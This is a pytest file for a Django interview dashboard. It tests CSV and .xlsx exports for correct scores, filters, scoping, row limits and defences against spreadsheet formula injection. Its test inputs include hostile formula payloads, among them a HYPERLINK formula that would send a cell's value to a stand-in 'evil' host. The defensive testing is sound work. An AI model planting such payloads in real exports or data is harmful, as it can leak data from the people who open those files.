"""The dashboard's exports (CSV and .xlsx) and the cohort CSV: one builder, the report's
numbers, the dashboard's filters, no formulas, numbers as numbers, bounded, scoped."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from interview import services
from interview.models import IntegrityEvent, InterviewSession
from review import exports
from review.reports import session_report
from tests.conftest import PASSWORD
from tests.review.reporting import graded_assessment, report_template

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://x","y")'


@pytest.fixture(autouse=True)
def local_grader(settings):
    settings.OPENAI_API_KEY = ""
    settings.OPENAI_BASE_URL = ""


@pytest.fixture
def cohort(bank, bob, alice, django_user_model, django_capture_on_commit_callbacks):
    """Two graded assessments of "Full loop" (one by a candidate named like a formula),
    one still in progress, one invite not used: only the first two are exported."""
    template = report_template()
    first = graded_assessment(bob, alice, template, capture=django_capture_on_commit_callbacks)
    IntegrityEvent.objects.create(session=first, kind="paste", chars=40, at=first.started_at, position=1)
    IntegrityEvent.objects.create(session=first, kind="copy", chars=5, at=first.started_at, position=1)
    IntegrityEvent.objects.create(session=first, kind="focus_lost", at=first.started_at)
    hostile = django_user_model.objects.create_user("eve@example.test", PASSWORD, name=HOSTILE)
    second = graded_assessment(bob, hostile, template, text="-1 short", capture=django_capture_on_commit_callbacks)
    busy = django_user_model.objects.create_user("busy@example.test", PASSWORD, name="Busy")
    with django_capture_on_commit_callbacks():
        _, token = services.assessment_invite_create(invited_by=bob, template=template, email=busy.email)
        services.assessment_invite_create(invited_by=bob, template=template, email="later@example.test")
    services.assessment_start(token=token, candidate=busy)
    return template, first, second


def _csv(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_csv_export_has_the_reports_numbers_one_row_per_finished_interview(client, bob, cohort):
    template, first, _second = cohort
    client.force_login(bob)
    response = client.get("/dashboard/export.csv", {"template": template.id, "sort": "date"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="interviews-full-')
    rows = _csv(response)
    assert [row["candidate_email"] for row in rows] == ["alice@example.test", "eve@example.test"]
    row = rows[0]
    report = session_report(first)
    assert float(row["score"]) == first.score and row["template"] == "Full loop"
    for section, score in report["sections"].items():
        assert float(row[f"section: {section}"]) == score
    for track, score in report["tracks"].items():
        assert float(row[f"track: {track}"]) == score
    for item in report["questions"]:
        assert float(row[f"q{item['position']}"]) == item["score"]
    assert float(row["percentile"]) == report["cohort"]["percentile"]
    assert (row["pastes"], row["copies"], row["focus_lost"]) == ("1", "1", "1")
    assert row["similarity_flags"] == "0" and row["status"] == "Finished"
    assert row["review"] in ("Provisional", "Pending review") and row["grader"] == "local"
    assert float(row["minutes_used"]) == report["minutes_used"]
    assert rows[1]["candidate_name"] == "'" + HOSTILE  # no formula injection


def test_the_xlsx_export_has_numbers_a_bold_frozen_header_and_no_formulas(client, bob, cohort):
    template, first, _ = cohort
    client.force_login(bob)
    response = client.get(f"/dashboard/export.xlsx?template={template.id}&sort=date")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["Interviews"]
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Interview", "Email", "Candidate"] and "Percentile in cohort" in header
    assert any(label.startswith("Q1 ") for label in header) and "Section: Coding" in header
    assert all(cell.font.bold for cell in sheet[1]) and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= 30
    alice_row = [cell.value for cell in sheet[2]]
    assert alice_row[0] == first.id and isinstance(alice_row[header.index("Score")], float)
    assert alice_row[header.index("Pastes")] == 1
    started = alice_row[header.index("Started (UTC)")]
    # A date cell, in UTC, to Excel's millisecond.
    assert abs((started - first.started_at.replace(tzinfo=None)).total_seconds()) < 0.001
    hostile = sheet.cell(row=3, column=3)
    assert hostile.value == "'" + HOSTILE and hostile.data_type == "s"
    assert "2 of 2 interviews." in [c.value for c in book["About"]["A"]]


def test_the_exports_honour_the_dashboards_filters_and_organization(client, bob, dave, alice, cohort):
    _template, first, second = cohort
    client.force_login(bob)
    high = _csv(client.get("/dashboard/export.csv", {"score_min": max(first.score, second.score)}))
    assert len(high) == 1
    assert _csv(client.get("/dashboard/export.csv", {"status": "invited"})) == []
    assert client.get("/dashboard/export.csv", {"score_min": "lots"}).status_code == 400
    client.force_login(dave)
    assert _csv(client.get("/dashboard/export.csv")) == []
    client.force_login(alice)
    assert client.get("/dashboard/export.csv").status_code == 404


def test_the_cohort_csv_of_the_api_is_the_same_table(client_for, bob, cohort):
    template, _first, _ = cohort
    response = client_for(bob).get(f"/api/cohorts/{template.id}/csv/")
    rows = _csv(response)
    # The API's cohort keeps sessions in progress (its status says so); the columns are the export's.
    assert [row["status"] for row in rows] == ["Finished", "Finished", "In progress"]
    assert rows[0]["section: Coding"] != "" and rows[1]["candidate_name"].startswith("'=")
    assert response["X-Export-Truncated"] == "false"


def test_the_export_is_bounded_and_says_so(bob, cohort):
    _, _first, _ = cohort
    sessions = InterviewSession.objects.filter(status="finished").order_by("started_at")
    table = exports.export_table(sessions, limit=1)
    assert table.total == 2 and len(table.rows) == 1 and table.truncated
    assert "Only the first 1 of 2 interviews" in table.notes[0]
    book = load_workbook(io.BytesIO(exports.table_xlsx(table)))
    assert "Only the first 1 of 2 interviews are here; narrow the filters for the rest." in [c.value for c in book["About"]["A"]]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_made_text(value):
    table = exports.ExportTable(columns=[exports.Column("name", "Name")], rows=[[value], [-1.5]], total=2)
    rows = list(csv.reader(io.StringIO(exports.table_csv(table).decode(), newline="")))
    assert rows[1] == ["'" + value] and rows[2] == ["-1.5"]
    sheet = load_workbook(io.BytesIO(exports.table_xlsx(table))).active
    # (XML reads a stored carriage return back as a line feed; the apostrophe stays first.)
    assert sheet["A2"].value == "'" + value.replace("\r", "\n") and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == -1.5


@pytest.mark.parametrize(
    "value",
    ['Eve;=HYPERLINK("http://evil/?"&B2,"x")', "Eve, +1", "a|@SUM(A1)", "a\t-2", "Eve;   =1+1"],
)
def test_a_formula_after_a_separator_is_made_text_and_every_csv_field_is_quoted(value):
    table = exports.ExportTable(columns=[exports.Column("name", "Name")], rows=[[value], ["Plain; text"]], total=2)
    raw = exports.table_csv(table).decode()
    lines = raw.splitlines()
    # Quoted: a ";" locale Excel keeps the field whole, and it starts with the apostrophe.
    assert lines[1] == '"' + ("'" + value).replace('"', '""') + '"'
    assert lines[2] == '"Plain; text"'
    sheet = load_workbook(io.BytesIO(exports.table_xlsx(table))).active
    assert sheet["A2"].value == "'" + value and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "Plain; text"


def test_the_export_cap_is_one_a_request_can_do_and_the_dashboard_says_it(client, bob):
    assert exports.EXPORT_MAX_ROWS <= 2000
    client.force_login(bob)
    assert f"at most {exports.EXPORT_MAX_ROWS} interviews" in client.get("/dashboard/").content.decode()


def test_the_grades_of_an_export_are_read_in_one_query(bob, cohort):
    sessions = InterviewSession.objects.filter(status="finished").order_by("started_at")
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        table = exports.export_table(sessions)
    assert len(table.rows) == 2
    grade_queries = [
        q["sql"] for q in queries.captured_queries if 'FROM "grading_answergrade"' in q["sql"] and "overrid" not in q["sql"]
    ]
    # One batched query for the review/grader columns, besides the report's own per-answer reads.
    assert sum('"grader"' in sql and "IN (" in sql for sql in grade_queries) == 1
